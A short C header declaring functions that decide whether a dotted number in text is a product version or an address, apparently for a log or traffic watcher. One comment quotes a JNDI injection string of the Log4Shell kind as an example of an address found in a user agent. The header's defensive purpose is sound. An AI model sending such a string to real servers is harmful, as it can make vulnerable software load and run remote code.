/* SPDX-License-Identifier: Apache-2.0 */
/* Four numbers with dots between them that are the version of a product, not an address. */
#ifndef AC_WATCH_VERSION_H
#define AC_WATCH_VERSION_H

#include "base/str.h"

/* Whether what stands around a number in a text says that it is a version. */
bool ac_is_version(ac_str text, ac_str number);
/* Whether it says that the number is an address even in a user agent: an attack's "${jndi:ldap://192.0.2.1/x}", the URL of a crawler. */
bool ac_is_called(ac_str text, ac_str number);

#endif
